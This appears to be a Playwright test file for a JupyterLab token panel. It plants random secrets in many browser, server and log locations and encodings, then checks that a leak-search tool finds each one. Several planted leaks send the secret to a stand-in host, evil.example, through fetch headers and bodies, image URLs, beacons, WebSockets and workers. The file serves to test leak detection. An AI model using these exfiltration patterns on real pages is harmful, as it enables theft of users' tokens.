import { randomBytes } from 'node:crypto';
import { appendFile, writeFile } from 'node:fs/promises';

import type { Page } from '@playwright/test';

import { expect, test } from '../../fixtures';
import type { JupyterPage } from '../../pages/jupyterpage';
import { textsOfUndo } from '../../leaks/pagetexts';
import { RecordedBrowser } from '../../leaks/recordedbrowser';
import type { IFinding, ISecret } from '../../leaks/search';
import { findSecrets, inWords } from '../../leaks/search';
import type { IText, Place } from '../../leaks/text';

/** A leak that is planted. */
interface ILeak<Target> {
  readonly name: string;
  readonly plant: (target: Target, secret: string) => Promise<unknown>;

  /** All places in which it must be found, and no other. */
  readonly found: readonly Place[];

  /** Whether it is the page's own token; yes unless said otherwise. */
  readonly isOfPage?: boolean;
}

/** Leaks of a script in the page, which leave nothing on the server. */
const IN_PAGE: readonly ILeak<Page>[] = [
  inPage('text', 'document', secret => document.body.append(secret)),
  inPage('a comment', 'document', secret =>
    document.append(document.createComment(secret))
  ),
  inPage('a template', 'document', secret => {
    const template = document.createElement('template');
    template.content.append(secret);
    document.body.append(template);
  }),
  inPage('a frame', 'document', secret => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    frame.contentDocument?.body.append(secret);
  }),
  inPage('an attribute', 'attribute', secret => {
    document.body.append(document.createElement('i'));
    document.body.lastElementChild?.setAttribute('data-note', secret);
  }),
  inPage('a custom property of CSS', 'attribute', secret => {
    const element = document.createElement('i');
    element.style.setProperty('--note', `'${CSS.escape(secret)}'`);
    document.body.append(element);
  }),
  inPage('a property of an element', 'property', secret => {
    const note = { of: { the: secret } };
    document.body.append(Object.assign(document.createElement('i'), { note }));
  }),
  inPage('an open shadow root', 'shadow root', secret => {
    const element = document.createElement('div');
    element.attachShadow({ mode: 'open' }).append(secret);
    document.body.append(element);
  }),
  inPage('a closed shadow root', 'shadow root', secret => {
    const element = document.createElement('div');
    element.attachShadow({ mode: 'closed' }).append(secret);
    document.body.append(element);
  }),
  inPage('a field', 'form value', secret => {
    const area = document.createElement('textarea');
    area.hidden = true;
    area.value = secret;
    document.body.append(area);
  }),
  inPage('a style sheet', 'style sheet', secret => {
    const sheet = new CSSStyleSheet();
    sheet.insertRule(`.planted { --note: '${CSS.escape(secret)}' }`);
    document.adoptedStyleSheets.push(sheet);
  }),
  inPage('window.name', 'window.name', secret => (window.name = secret)),
  inPage('the title, for a moment', 'title', secret => {
    const { title } = document;
    document.title = secret;
    document.title = title;
  }),
  inPage('localStorage', 'localStorage', secret => {
    Object.assign(localStorage, { planted: secret });
  }),
  inPage('a key of localStorage', 'localStorage', secret =>
    localStorage.setItem(secret, '')
  ),
  inPage('localStorage, for a moment', 'localStorage', secret => {
    localStorage.setItem('moment', secret);
    localStorage.removeItem('moment');
  }),
  inPage('sessionStorage', 'sessionStorage', secret =>
    sessionStorage.setItem('planted', secret)
  ),
  inPage(
    'IndexedDB, as bytes in an object',
    'IndexedDB',
    secret =>
      new Promise<void>(resolve => {
        const opening = indexedDB.open('planted');
        opening.onupgradeneeded = () => {
          const notes = opening.result.createObjectStore('notes');
          notes.put({ bytes: new TextEncoder().encode(secret) }, 1);
        };
        opening.onsuccess = () => {
          opening.result.close();
          resolve();
        };
      })
  ),
  inPage('Cache Storage', 'Cache Storage', async secret => {
    const cache = await caches.open('planted');
    await cache.put('/planted', new Response(`{"note": "${secret}"}`));
  }),
  inPage('a cookie', 'cookie', secret => {
    document.cookie = `planted=${encodeURIComponent(secret)}; path=/nowhere`;
  }),
  inPage('a cookie, for a moment', 'cookie', secret => {
    document.cookie = `moment=${encodeURIComponent(secret)}; max-age=0`;
  }),
  inPage('the history, as an address', 'history', secret => {
    const { href } = location;
    history.pushState(null, '', `?note=${encodeURIComponent(secret)}`);
    history.pushState(null, '', href);
  }),
  inPage('the history, as a state', 'history', secret =>
    history.replaceState({ note: secret }, '')
  ),
  inPage('the console, deep in an object', 'console', secret =>
    console.debug('planted', { a: { b: [secret] } })
  ),
  inPage('the console, as an error that nobody caught', 'console', secret => {
    setTimeout(() => {
      throw new Error(secret);
    });
  }),
  inPage(
    'the console of a worker',
    'console',
    secret =>
      new Promise<void>(resolve => {
        const code =
          'onmessage = ({ data }) => { console.info(data); postMessage(0); }';
        const url = URL.createObjectURL(new Blob([code]));
        const worker = new Worker(url);
        worker.onmessage = () => resolve();
        worker.postMessage(secret);
      })
  ),
  inPage(
    'a message to another origin',
    'message',
    secret =>
      new Promise<void>(resolve => {
        const frame = document.createElement('iframe');
        frame.src = 'http://evil.example/frame';
        frame.onload = () => {
          frame.contentWindow?.postMessage({ secret }, '*');
          resolve();
        };
        document.body.append(frame);
      })
  ),
  inPage('a broadcast', 'message', secret =>
    new BroadcastChannel('planted').postMessage({ secret })
  ),
  inPage('a dialog', 'dialog', secret => alert(secret)),
  {
    name: 'a download',
    found: ['download'],
    plant: async (page, secret) => {
      const downloaded = page.waitForEvent('download');
      await page.evaluate(secret => {
        const link = document.createElement('a');
        link.download = 'planted.txt';
        link.href = URL.createObjectURL(new Blob([secret]));
        link.click();
      }, secret);
      await downloaded;
    }
  },
  inPage(
    'the address of a picture of another origin',
    'URL',
    secret =>
      new Promise<void>(resolve => {
        const picture = new Image();
        picture.onerror = () => resolve();
        picture.src = `https://evil.example/?${encodeURIComponent(secret)}`;
      })
  ),
  inPage('the host of an address', ['URL', 'header'], async secret => {
    const part = secret.slice(-20);
    await fetch(`http://${part}.evil.example/`, { mode: 'no-cors' });
  }),
  inPage(
    'the header Authorization, to another origin',
    'header',
    async secret => {
      const headers = { Authorization: `token ${secret}` };
      await fetch('http://evil.example/', { headers });
    }
  ),
  inPage(
    'the header Authorization, to another origin by https',
    'header',
    async secret => {
      const headers = { Authorization: `token ${secret}` };
      await fetch('https://evil.example/', { headers });
    }
  ),
  inPage('the header Authorization, in another way', 'header', async secret => {
    const headers = { Authorization: `Basic ${btoa(`me:${secret}`)}` };
    await fetch('http://evil.example/', { headers });
  }),
  inPage('Referer', 'Referer', async secret => {
    await fetch('http://evil.example/', {
      mode: 'no-cors',
      referrer: `/?${encodeURIComponent(secret)}`,
      referrerPolicy: 'unsafe-url'
    });
  }),
  inPage('a body, as text', 'body', async body => {
    await fetch('http://evil.example/', { method: 'POST', body });
  }),
  inPage('a body by https, as JSON', 'body', async secret => {
    const body = JSON.stringify({ secret });
    await fetch('https://evil.example/', { method: 'POST', body });
  }),
  inPage('a body, as a file in a form', 'body', async secret => {
    const body = new FormData();
    body.append('file', new Blob([secret]), 'file.bin');
    await fetch('http://evil.example/', { method: 'POST', body });
  }),
  inPage('a body, as bytes', 'body', async secret => {
    const body = new TextEncoder().encode(secret);
    await fetch('http://evil.example/', { method: 'POST', body });
  }),
  inPage('a body, as the field of a form', 'body', async secret => {
    const body = new URLSearchParams({ secret });
    await fetch('http://evil.example/', { method: 'POST', body });
  }),
  {
    name: 'a beacon',
    found: ['body'],
    plant: async (page, secret) => {
      const sent = page.waitForRequest('http://evil.example/beacon');
      await page.evaluate(secret => {
        const body = new Blob([secret]);
        navigator.sendBeacon('http://evil.example/beacon', body);
      }, secret);
      await sent;
    }
  },
  inPage(
    'a request of a worker',
    'body',
    secret =>
      new Promise<void>(resolve => {
        const code = `onmessage = async ({ data: body }) => {
            await fetch('http://evil.example/', { method: 'POST', body });
            postMessage(0);
          }`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = () => resolve();
        worker.postMessage(secret);
      })
  ),
  inPage(
    'a frame of a WebSocket',
    'WebSocket',
    secret =>
      new Promise<void>(resolve => {
        const socket = new WebSocket('ws://evil.example/');
        socket.onopen = () => {
          socket.send(secret.padEnd(1000));
          resolve();
        };
      })
  ),
  inPage(
    'the address of a WebSocket',
    'URL',
    secret =>
      new Promise<void>(resolve => {
        const url = `ws://evil.example/?${encodeURIComponent(secret)}`;
        const socket = new WebSocket(url);
        socket.onopen = () => resolve();
      })
  )
];

/**
 * Leaks of a script in the page to the page's own server, which may write the
 * URL down.
 */
const TO_SERVER: readonly ILeak<JupyterPage>[] = [
  {
    name: 'the address of a request that fails, which the server writes down',
    found: ['URL', 'log'],
    plant: toServer('api/contents/nothing-here?note=SECRET')
  },
  {
    name: 'a header',
    found: ['header'],
    plant: toServer('api/status', { headers: { 'X-Note': 'SECRET' } })
  },
  {
    name: 'a token that is not the page’s',
    isOfPage: false,
    found: ['header'],
    plant: toServer('api/status', {
      headers: { Authorization: 'token SECRET' }
    })
  },
  {
    name: 'a body',
    found: ['body'],
    plant: toServer('api/status', { method: 'POST', body: 'SECRET' })
  }
];

/** Leaks on the server, which did not come from this browser. */
const ON_SERVER: readonly ILeak<JupyterPage>[] = [
  {
    name: 'a workspace',
    found: ['workspace'],
    plant: (jupyter, secret) =>
      send(jupyter, 'PUT', 'lab/api/workspaces/planted', {
        data: { note: secret },
        metadata: { id: 'planted' }
      })
  },
  {
    name: 'the settings',
    found: ['settings'],
    plant: (jupyter, secret) =>
      send(jupyter, 'PUT', 'lab/api/settings/jupyterlab-api-token:panel', {
        raw: `{ // ${secret}\n }`
      })
  },
  {
    name: 'a notebook',
    found: ['notebook'],
    plant: async (jupyter, secret) => {
      // Its first content is its first checkpoint.
      await saveNotebook(jupyter, 'planted.ipynb', '');
      await saveNotebook(jupyter, 'planted.ipynb', secret);
    }
  },
  {
    name: 'a checkpoint',
    found: ['checkpoint'],
    plant: async (jupyter, secret) => {
      const name = 'checkpoint.ipynb';
      await saveNotebook(jupyter, name, secret);
      await send(jupyter, 'POST', `api/contents/${name}/checkpoints`);
      await saveNotebook(jupyter, name, '');
    }
  },
  {
    name: 'another file, beside those that hold the server’s token',
    found: ['file'],
    plant: ({ host, user }, secret) => {
      const home = host.homeOf(user);
      const runtime = `${home}/.local/share/jupyter/runtime`;
      return writeFile(`${runtime}/jpserver-1.txt`, secret);
    }
  },
  {
    name: 'the server’s log',
    found: ['log'],
    plant: (jupyter, secret) =>
      send(jupyter, 'GET', `api/contents/${encodeURIComponent(secret)}`)
  }
];

/** Leaks in the logs of a hub. */
const ON_HUB: readonly ILeak<JupyterPage>[] = [
  {
    name: 'the Hub’s log',
    found: ['log'],
    plant: ({ host }, secret) =>
      fetch(`${host.about.url}hub/${encodeURIComponent(secret)}`)
  },
  {
    name: 'the proxy’s log',
    found: ['log'],
    plant: ({ host }, secret) =>
      appendFile(`${host.about.directory}/proxy.log`, secret)
  }
];

/** The forms in which a secret is written, made by the browser's own means. */
const FORMS: readonly [form: string, write: (secret: string) => string][] = [
  ['as it is', secret => secret],
  ['as it is', secret => secret.toUpperCase()],
  ['percent-encoded', secret => encodeURIComponent(secret)],
  ['percent-encoded', secret => encodeURI(secret)],
  ['percent-encoded', note => new URLSearchParams({ note }).toString()],
  ['percent-encoded', secret => new URL(`?${secret}`, location.href).href],
  [
    'percent-encoded',
    secret => new URL(`?${encodeURIComponent(secret)}`, location.href).href
  ],
  [
    'percent-encoded, every byte',
    secret =>
      Array.from(
        new TextEncoder().encode(secret),
        byte => `%${byte.toString(16).toUpperCase()}`
      ).join('')
  ],
  ['JSON', secret => JSON.stringify({ secret })],
  ['JSON', secret => JSON.stringify(JSON.stringify([secret]))],
  [
    'JSON, percent-encoded',
    secret => encodeURIComponent(JSON.stringify({ secret }))
  ],
  ['HTML', secret => new Option(secret).innerHTML],
  [
    'HTML',
    secret => {
      const element = document.createElement('i');
      element.title = secret;
      return element.outerHTML;
    }
  ],
  ['base64', secret => btoa(secret)],
  ['base64', secret => btoa(`a${secret}b`)],
  ['base64', secret => btoa(`aa${secret}bb`)],
  ['base64', secret => btoa(`aaa${secret}bbb`)],
  ['base64url', secret => btoa(secret).replace(/\+/g, '-').replace(/\//g, '_')],
  ['base64, percent-encoded', secret => encodeURIComponent(btoa(secret))],
  [
    'hex',
    secret =>
      Array.from(secret, each => each.charCodeAt(0).toString(16)).join('')
  ],
  ['reversed', secret => [...secret].reverse().join('')],
  ['a part of it', secret => secret.slice(0, secret.length / 2)],
  ['a part of it', secret => secret.slice(-15)]
];

test.setTimeout(600_000);

test(
  'the search finds a leak in each place',
  { tag: '@leaks' },
  async ({ browser, host, newJupyter, user }) => {
    const recorded = await RecordedBrowser.start(browser, host);
    const jupyter = await newJupyter({ host, context: recorded.context });
    const { page } = jupyter;
    await recorded.open(jupyter);
    await jupyter.showPanel();

    const secrets: ISecret[] = [];
    const expected: Record<string, readonly string[]> = {};
    const plant = async <Target>(
      target: Target,
      leaks: readonly ILeak<Target>[]
    ) => {
      for (const { found, isOfPage = true, name, plant } of leaks) {
        await test.step(name, async () => {
          const value = newSecret();
          secrets.push({ name, value, isOfPage });
          expected[name] = found;
          await plant(target, value);
        });
      }
    };
    await plant(jupyter, ON_SERVER);
    if (user) {
      // What a page leaks is found by the same search with and without a hub.
      await plant(jupyter, ON_HUB);
    } else {
      await plant(page, IN_PAGE);
      await plant(jupyter, TO_SERVER);
    }
    // What was reported or is being written may come late.
    await expect(async () => {
      const findings = [
        ...(await recorded.findInPage(page, secrets)),
        ...(await recorded.findBehind(secrets))
      ];
      expect(placesOf(findings)).toEqual(expected);
      expectNoSecret(findings, secrets);
    }).toPass({ timeout: 120_000 });

    await test.step('what undo restores', async () => {
      const secret = { name: 'undo', value: newSecret(), isOfPage: true };
      const field = jupyter.panel.getByLabel('API path');
      await field.fill(secret.value);
      await field.fill('/api/sessions');
      expect(await recorded.findInPage(page, [secret])).toEqual([]);
      const findings = recorded.find(await textsOfUndo(page), [secret]);
      expect(placesOf(findings)).toEqual({ undo: ['undo history'] });
    });
    await jupyter.cleanUp();
    await recorded.stop();
  }
);

test(
  'the search finds a leak in each encoding',
  { tag: '@leaks' },
  async ({ browser, host }) => {
    const recorded = await RecordedBrowser.start(browser, host);
    const page = await recorded.context.newPage();
    await page.goto(host.about.url);
    const secrets: ISecret[] = [];
    const expected: string[] = [];
    for (const [form, write] of FORMS) {
      const name = `form ${secrets.length}`;
      const value = newSecret();
      secrets.push({ name, value, isOfPage: true });
      expected.push(`${name}, ${form}: localStorage, ${name}`);
      // It is not known to the page except in this form.
      const text = await page.evaluate(write, value);
      await page.evaluate(
        ([name, text]) => localStorage.setItem(name, `before ${text} after`),
        [name, text]
      );
    }
    const findings = await recorded.findInPage(page, secrets);
    expect(findings.map(inWords)).toEqual(expected);
    await recorded.stop();
  }
);

/** A leak that a script in the page plants. */
function inPage(
  name: string,
  found: Place | readonly Place[],
  plant: (secret: string) => unknown
): ILeak<Page> {
  return {
    name,
    found: [found].flat() as Place[],
    plant: (page, secret) => page.evaluate(plant, secret)
  };
}

/**
 * Plant a leak by a script in the page, in a request to its server.
 *
 * @param path - Where it goes; `SECRET` stands for the secret, there and in
 *   what is sent.
 */
function toServer(
  path: string,
  init: {
    method?: string;
    body?: string;
    headers?: Record<string, string>;
  } = {}
): (jupyter: JupyterPage, secret: string) => Promise<unknown> {
  return ({ page, serverUrl }, secret) => {
    const url = serverUrl + path.replace('SECRET', encodeURIComponent(secret));
    const { body, headers = {}, method } = init;
    const filled = Object.entries(headers).map(([name, value]) => [
      name,
      value.replace('SECRET', () => secret)
    ]);
    return page.evaluate(([url, init]) => fetch(url, init).then(() => null), [
      url,
      { method, headers: Object.fromEntries(filled), body: body && secret }
    ] as const);
  };
}

/** Ask the server from outside of the browser. */
async function send(
  { requestToken, serverUrl }: JupyterPage,
  method: string,
  path: string,
  content?: object
): Promise<void> {
  const response = await fetch(serverUrl + path, {
    method,
    headers: {
      Authorization: `token ${requestToken}`,
      'Content-Type': 'application/json'
    },
    body: content && JSON.stringify(content)
  });
  // Nothing is at the URL that is to be in the log.
  expect([200, 201, 204, 404], path).toContain(response.status);
}

function saveNotebook(
  jupyter: JupyterPage,
  name: string,
  source: string
): Promise<void> {
  const cells = [{ cell_type: 'raw', id: 'a', metadata: {}, source }];
  const content = { cells, metadata: {}, nbformat: 4, nbformat_minor: 5 };
  return send(jupyter, 'PUT', `api/contents/${name}`, {
    type: 'notebook',
    format: 'json',
    content
  });
}

/** In which places each secret was found, by its name. */
function placesOf(findings: readonly IFinding[]): Record<string, string[]> {
  const places: Record<string, string[]> = {};
  for (const { place, secret } of findings) {
    const known = (places[secret] ??= []);
    if (!known.includes(place)) {
      known.push(place);
    }
  }
  return places;
}

/** Expect that the words on a leak do not leak it. */
function expectNoSecret(
  findings: readonly IFinding[],
  secrets: readonly ISecret[]
): void {
  const words = findings.map(inWords).map((text): IText => ({
    place: 'document',
    where: 'words',
    text
  }));
  expect(findSecrets(words, secrets, () => false)).toEqual([]);
}

/**
 * A token that looks otherwise in each form, and has no part in common with
 * another one.
 */
function newSecret(): string {
  return Array.from(
    `=+/&%;'\\"<>?~ !()*`,
    character => character + randomBytes(2).toString('hex')
  )
    .concat(randomBytes(12).toString('hex'), 'zZ')
    .join('');
}
